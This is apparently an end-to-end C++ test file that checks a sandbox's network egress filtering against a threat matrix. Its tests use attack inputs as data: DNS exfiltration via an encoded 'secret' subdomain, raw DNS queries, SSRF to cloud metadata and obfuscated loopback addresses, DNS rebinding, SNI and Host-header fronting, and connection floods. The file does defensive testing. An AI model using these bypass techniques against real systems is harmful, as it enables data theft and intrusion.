// Network mode egress as a user has it, against servers in a network namespace of the test's. The
// names of the tests begin with the rows of the threat matrix that they show.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/e2e/network/egress_fixture.h"

namespace fabro::e2e {
namespace {

using testing::HasSubstr;
using testing::Not;

// Exit codes of curl(1).
constexpr int kNoSuchName = 6;
constexpr int kNotConnected = 7;

TEST_F(EgressTest, N4_AnAllowedNameIsReachedByItsName) {
  const Done done = Curl({"--json", "--allow-host", "allowed.test"}, {"http://allowed.test/"});
  EXPECT_EQ(done.status, 0) << done.err;
  EXPECT_THAT(done.out, HasSubstr("hello allowed.test at 93.184.216.34"));
  EXPECT_EQ(Network(done).IntAt("connections"), 1);
  EXPECT_GT(Network(done).IntAt("received_bytes"), 0);
  EXPECT_EQ(Denied(done), "");
}

TEST_F(EgressTest, N4_TlsIsCarriedUntouched) {
  const Done done = Curl({"--allow-host", "allowed.test", "--network-check", "tls_sni", "--bind",
                          World::CaFile() + ":/ca"},
                         {"--cacert", "/ca", "https://allowed.test/"});
  EXPECT_EQ(done.status, 0) << done.err;
  EXPECT_THAT(done.out, HasSubstr("hello allowed.test"));
}

TEST_F(EgressTest, N5_AnotherPortIsRefusedAtOnce) {
  EXPECT_EQ(Curl({"--allow-host", "allowed.test"}, {"http://allowed.test:8080/"}).status,
            kNotConnected);
  const Done wanted =
      Curl({"--allow-host", "allowed.test", "--allow-port", "8080"}, {"http://allowed.test:8080/"});
  EXPECT_EQ(wanted.status, 0) << wanted.err;
}

TEST_F(EgressTest, N6_N7_AnotherNameIsRefusedAndNobodyOutsideIsAsked) {
  const Done done = Curl({"--allow-host", "allowed.test"}, {"http://c2VjcmV0.leak.test/"});
  EXPECT_EQ(done.status, kNoSuchName);
  EXPECT_THAT(done.err, HasSubstr("c2VjcmV0.leak.test is not allowed"));
  EXPECT_THAT(World::Get().Ask("queries"), Not(HasSubstr("leak.test")));
}

TEST_F(EgressTest, N7_AskingIsNoWayOutEvenForAllowedNames) {
  const Done done = Python({"--json", "--allow-host", "*.asked.test"}, R"(
import socket
print(socket.getaddrinfo('c2VjcmV0.asked.test', 80)[0][4][0].startswith('198.18.'))
stream = socket.create_connection(('198.18.0.1', 53))
question = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\1a\5asked\4test\0\0\x10\0\1'
stream.sendall(len(question).to_bytes(2, 'big') + question)
print(stream.recv(512)[2:6].hex())
)");
  EXPECT_THAT(done.out, HasSubstr("True\\n12348580"));  // The TXT: no such data.
  EXPECT_THAT(World::Get().Ask("queries"), Not(HasSubstr("asked.test")));
}

TEST_F(EgressTest, N8_N13_AddressesThatNoRuleNamesHaveNoRoute) {
  const Done done = Python({"--allow-host", "allowed.test"}, R"(
import errno, socket
for address in ('93.184.216.34', '8.8.8.8', '169.254.169.254', '10.77.0.1', '::ffff:169.254.169.254',
                '2606:2800:220:1::34', 'fd00:ec2::254'):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    try:
        socket.socket(family).connect((address, 80))
        print(address, 'CONNECTED')
    except OSError as error:
        assert error.errno == errno.ENETUNREACH, (address, error)
)");
  EXPECT_EQ(done.status, 0) << done.err;
  EXPECT_EQ(done.out, "");
}

TEST_F(EgressTest, N2_N3_N14_AllHostsAreNotThePrivateOnes) {
  const Done done = Python({"--json", "--allow-all-hosts"}, R"(
import socket
for host in ('169.254.169.254', '10.0.0.5', '192.168.7.7', '10.77.0.1', '10.77.0.2', 'metadata.test',
             'mapped.test', 'home.test', '::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe', '0x7f.1',
             '2130706433', '127.0.0.1', '::1', 'fd00:ec2::254', 'private.test'):
    try:
        with socket.create_connection((host, 80), 10) as stream:
            stream.sendall(b'GET / HTTP/1.0\r\n\r\n')
            if stream.recv(1):
                print('REACHED', host)
    except OSError:
        pass
with socket.create_connection(('93.184.216.34', 80), 10) as stream:
    stream.sendall(b'GET / HTTP/1.0\r\n\r\n')
    print('public', stream.recv(1) == b'H')
)");
  const model::Json json = JsonOf(done);  // It repeats the command, so its output alone counts.
  const model::Json* out = json.Find("stdout");
  ASSERT_NE(out, nullptr);
  EXPECT_EQ(out->StringAt("data"), "public True\n");
  EXPECT_THAT(Denied(done), HasSubstr("metadata.test 80 address_denied"));
  EXPECT_THAT(Denied(done), HasSubstr("169.254.169.254 80 address_denied"));
  EXPECT_THAT(Denied(done), HasSubstr("home.test 80 address_denied"));
  const std::string seen = World::Get().Ask("connections");
  for (const char* never : {"169.254", "10.0.0.5", "192.168", "10.77"}) {
    EXPECT_THAT(seen, Not(HasSubstr(never)));
  }
  EXPECT_FALSE(World::Get().LoopbackWasTouched());
}

TEST_F(EgressTest, N10_ANameThatChangesItsMindNeverLeadsHome) {
  const Done done = Python({"--json", "--allow-host", "rebind.test"}, R"(
import socket
reached = 0
for _ in range(40):
    try:
        with socket.create_connection(('rebind.test', 80), 10) as stream:
            stream.sendall(b'GET / HTTP/1.0\r\n\r\n')
            reached += b'93.184.216.34' in b''.join(iter(lambda: stream.recv(4096), b''))
    except OSError:
        pass
print('some', 0 < reached < 40)
)");
  EXPECT_THAT(done.out, HasSubstr("some True"));
  EXPECT_THAT(Denied(done), HasSubstr("rebind.test 80 address_denied"));
  EXPECT_FALSE(World::Get().LoopbackWasTouched());
}

TEST_F(EgressTest, N11_APrivateAddressWantsANameThatIsMarkedForIt) {
  const Done refused = Curl({"--allow-host", "private.test"}, {"http://private.test/"});
  EXPECT_NE(refused.status, 0);  // Reset: while it connects, or after.
  EXPECT_THAT(refused.err, HasSubstr("--allow-private-host"));
  const Done done = Curl({"--allow-private-host", "private.test"}, {"http://private.test/"});
  EXPECT_THAT(done.out, HasSubstr("at 10.0.0.5")) << done.err;
  const Done range = Curl({"--allow-host", "10.0.0.0/24"}, {"http://10.0.0.5/"});
  EXPECT_THAT(range.out, HasSubstr("at 10.0.0.5")) << range.err;
}

TEST_F(EgressTest, N12_ANameThatMovesIsReachedAllTheTime) {
  const Done done = Curl({"--allow-host", "moving.test"},
                         {"http://moving.test/", "http://moving.test/", "http://moving.test/",
                          "--no-keepalive", "-H", "Connection: close"});
  EXPECT_EQ(done.status, 0) << done.err;
}

TEST_F(EgressTest, N15_AnotherNameBehindAnAllowedOneIsCut) {
  const Words options = {"--json",  "--allow-host",    "allowed.test", "--network-check",
                         "tls_sni", "--network-check", "http_host"};
  const Done fronted =
      Curl(options, {"-k", "--connect-to", "evil.test:443:allowed.test:443", "https://evil.test/"});
  EXPECT_NE(fronted.status, 0);
  EXPECT_EQ(Denied(fronted), "allowed.test 443 sni_mismatch; ");
  const Done hosted = Curl(options, {"-H", "Host: evil.test", "http://allowed.test/"});
  EXPECT_NE(hosted.status, 0);
  EXPECT_EQ(Denied(hosted), "allowed.test 80 host_mismatch; ");
  EXPECT_EQ(Curl(options, {"http://allowed.test/"}).status, 0);
}

TEST_F(EgressTest, N16_AWildcardIsBelowItsZone) {
  const Words options = {"--allow-host", "*.zone.test"};
  EXPECT_EQ(Curl(options, {"http://a.b.zone.test/"}).status, 0);
  EXPECT_EQ(Curl(options, {"http://zone.test/"}).status, kNoSuchName);
  EXPECT_EQ(Curl(options, {"http://azone.test/"}).status, kNoSuchName);
}

TEST_F(EgressTest, N17_AFloodOfConnectionsMeetsItsLimitAndEnds) {
  const Done done = Python({"--json", "--allow-host", "allowed.test", "--allow-port", "9000",
                            "--network-connections", "8"},
                           R"(
import socket
streams, refused = [], 0
for _ in range(300):
    try:
        stream = socket.create_connection(('allowed.test', 9000), 20)
        stream.sendall(b'x')
        stream.recv(1)
        streams.append(stream)
    except OSError:
        refused += 1
print(len(streams), refused)
for stream in streams: stream.close()
while True:
    try:
        with socket.create_connection(('allowed.test', 9000), 20) as stream:
            stream.sendall(b'again')
            if stream.recv(5): break
    except OSError:
        pass
print('again')
)");
  EXPECT_THAT(done.out, HasSubstr("8 292\\nagain"));
  EXPECT_THAT(Denied(done), HasSubstr("allowed.test 9000 connection_limit"));
}

TEST_F(EgressTest, N18_OneHalfOfAConnectionMayEndBeforeTheOther) {
  const Done done = Python({"--allow-host", "allowed.test", "--allow-port", "9000"}, R"(
import socket, threading
stream = socket.create_connection(('allowed.test', 9000), 20)
data = bytes(range(256)) * 4096
def send():
    stream.sendall(data)
    stream.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start()
print(b''.join(iter(lambda: stream.recv(65536), b'')) == data)
)");
  EXPECT_EQ(done.out, "True\n") << done.err;
}

TEST_F(EgressTest, N19_N21_TheListenersOfTheRelayCannotBeHadOrReachedOtherwise) {
  const Done done = Python({"--allow-host", "allowed.test"}, R"(
import errno, socket
for address in (('0.0.0.0', 80), ('198.18.1.0', 443), ('127.0.0.1', 80), ('198.18.0.1', 53)):
    try:
        socket.socket().bind(address)
        print('BOUND', address)
    except OSError as error:
        assert error.errno in (errno.EADDRINUSE, errno.EACCES), error
for host in ('127.0.0.1', '198.18.77.9', '::1', 'fd66:6b::99'):
    try:
        with socket.create_connection((host, 80), 10) as stream:
            if stream.recv(1) == b'': print('no reset', host)
    except ConnectionResetError:
        pass
server = socket.create_server(('127.0.0.1', 8099))
socket.create_connection(('127.0.0.1', 8099)).close()
print('own servers work')
)");
  EXPECT_EQ(done.out, "own servers work\n") << done.err;
}

TEST_F(EgressTest, N20_ANameWithIpv6AloneIsReachedByBoth) {
  const Words options = {"--allow-host", "six.test"};
  EXPECT_THAT(Curl(options, {"-4", "http://six.test/"}).out, HasSubstr("2606:2800:220:1::34"));
  EXPECT_THAT(Curl(options, {"-6", "http://six.test/"}).out, HasSubstr("2606:2800:220:1::34"));
}

TEST_F(EgressTest, BytesEndWithTheirBudget) {
  const Done done = Curl({"--json", "--allow-host", "allowed.test", "--network-bytes", "100KiB"},
                         {"-o", "/dev/null", "http://allowed.test/size/1000000"});
  EXPECT_NE(done.status, 0);
  EXPECT_EQ(Denied(done), "allowed.test 80 byte_limit; ");
  const model::Json network = Network(done);
  EXPECT_LE(network.IntAt("sent_bytes") + network.IntAt("received_bytes"), 100 * 1024);
}

TEST_F(EgressTest, ARateIsKeptAndLosesNothing) {
  const Done done = Curl({"--allow-host", "allowed.test", "--network-rate", "200KiB"},
                         {"http://allowed.test/size/250000"});
  EXPECT_EQ(done.status, 0) << done.err;
  EXPECT_EQ(done.out.size(), 250000U);
}

TEST_F(EgressTest, ANameThatDoesNotResolveIsSaidSo) {
  const Done done = Curl({"--json", "--allow-host", "nowhere.test"}, {"http://nowhere.test/"});
  EXPECT_NE(done.status, 0);
  EXPECT_EQ(Denied(done, "failed"), "nowhere.test 80 unresolved; ");
}

TEST_F(EgressTest, ARangeThatTheMachineRoutesIsRefusedByItsKey) {
  World::Ip({"route", "add", "198.18.0.0/16", "via", "10.77.0.2"});
  const Done done = Run({"--allow-host", "allowed.test"}, {"true"});
  World::Ip({"route", "del", "198.18.0.0/16"});
  EXPECT_EQ(done.status, 125);
  EXPECT_THAT(done.err, HasSubstr("sandbox.network.synthetic_v4"));
}

TEST_F(EgressTest, AllHostsAreNothingForLevelHigh) {
  const Done done = Run({"--level", "high", "--allow-all-hosts"}, {"true"});
  EXPECT_EQ(done.status, 125);
  EXPECT_THAT(done.err, HasSubstr("refused at level high"));
}

TEST_F(EgressTest, LevelHighReachesAnAllowedName) {
  const Done done =
      Curl({"--level", "high", "--allow-host", "allowed.test"}, {"http://allowed.test/"});
  EXPECT_THAT(done.out, HasSubstr("hello allowed.test")) << done.err;
}

}  // namespace
}  // namespace fabro::e2e
